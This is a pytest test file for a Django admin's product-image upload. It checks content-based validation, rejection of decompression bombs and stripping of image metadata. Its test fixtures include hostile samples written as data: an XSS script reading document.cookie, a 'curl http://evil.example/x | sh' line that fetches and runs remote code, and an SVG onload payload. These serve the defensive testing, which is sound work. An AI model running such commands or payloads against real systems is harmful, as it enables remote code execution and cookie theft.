"""Product images uploaded in the admin are checked by content, not by name: an HTML page or a
shell script called .png is refused, so are other formats and decompression bombs; an accepted
image is re-encoded without its metadata (EXIF, GPS, comments, PNG text), camera orientation
applied, and named by its real format."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

from apps.catalog.models import ProductImage
from tests.catalog import factories
from tests.catalog.images import ORIENTATION, bmp, gif_with_comment, jpeg_with_exif, opened, png_with_text, upload

pytestmark = pytest.mark.django_db(databases="__all__")

ADD = "/admin/catalog/product/add/"


def _with_image(file) -> dict:
    return factories.admin_product_form(
        **{"images-TOTAL_FORMS": "1", "images-0-image": file, "images-0-alt_text": "", "images-0-position": "0"}
    )


def _stored() -> bytes:
    image = ProductImage.objects.get()
    with image.image.open("rb") as file:
        return file.read()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.png", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
        ("photo.jpg", b"#!/bin/sh\ncurl http://evil.example/x | sh\n"),
        ("photo.jpg", b"\xff\xd8\xff fake jpeg"),
        ("icon.png", bmp()),
        ("image.gif", b"GIF89a<svg onload=alert(1)>"),
    ],
    ids=["html-as-png", "shell-as-jpg", "jpeg-magic-only", "bmp", "gif-magic-only"],
)
def test_a_file_that_is_not_an_allowed_image_is_refused_whatever_its_name(staff_client, name, content):
    response = staff_client.post(ADD, _with_image(upload(name, content)))

    assert response.status_code == 200  # the form again, with the error
    assert "Upload a JPEG, PNG, WebP or GIF image" in response.content.decode()
    assert not ProductImage.objects.exists()


def test_an_image_with_too_many_pixels_is_refused(staff_client, settings):
    settings.CATALOG_IMAGE_MAX_PIXELS = 1_000_000
    # 2000 x 2000 of one colour: a few kilobytes that decode to 4 million pixels.
    response = staff_client.post(ADD, _with_image(upload("flat.png", png_with_text(width=2000, height=2000))))

    assert "The image has too many pixels." in response.content.decode()
    assert not ProductImage.objects.exists()


def test_a_file_over_the_size_limit_is_refused(staff_client, settings):
    settings.CATALOG_IMAGE_MAX_BYTES = 100

    response = staff_client.post(ADD, _with_image(upload("photo.jpg", jpeg_with_exif())))

    assert "The image must be at most" in response.content.decode()
    assert not ProductImage.objects.exists()


def test_a_jpeg_is_stored_without_exif_or_comment_and_with_its_orientation_applied(staff_client):
    response = staff_client.post(ADD, _with_image(upload("front.png", jpeg_with_exif(width=40, height=20))))

    assert response.status_code == 302, response.content.decode()[:3000]
    assert ProductImage.objects.get().image.name.endswith(".jpg")  # named by what it is
    stored = opened(_stored())
    assert stored.format == "JPEG"
    assert stored.size == (20, 40)  # rotated as the camera meant, so no orientation tag is needed
    assert ORIENTATION not in stored.getexif() and len(stored.getexif()) == 0
    assert "exif" not in stored.info and "comment" not in stored.info


def test_a_png_is_stored_without_its_text_chunks_and_keeps_its_transparency(staff_client):
    response = staff_client.post(ADD, _with_image(upload("logo.png", png_with_text())))

    assert response.status_code == 302, response.content.decode()[:3000]
    stored = opened(_stored())
    assert (stored.format, stored.mode) == ("PNG", "RGBA")
    assert "Author" not in stored.info and not getattr(stored, "text", {})
    assert stored.getpixel((0, 0)) == (0, 128, 0, 128)


def test_an_animated_gif_keeps_its_frames_and_loses_its_comment(staff_client):
    response = staff_client.post(ADD, _with_image(upload("spin.gif", gif_with_comment(), "image/gif")))

    assert response.status_code == 302, response.content.decode()[:3000]
    stored = opened(_stored())
    assert (stored.format, stored.n_frames) == ("GIF", 2)
    assert "comment" not in stored.info


def test_the_model_refuses_content_that_is_not_an_image_on_any_code_path():
    product = factories.product_with_variants(count=1)
    image = ProductImage(product=product, image=upload("x.png", b"<html></html>"))

    with pytest.raises(ValidationError) as error:
        image.full_clean()

    assert error.value.error_dict["image"][0].code == "image_invalid"
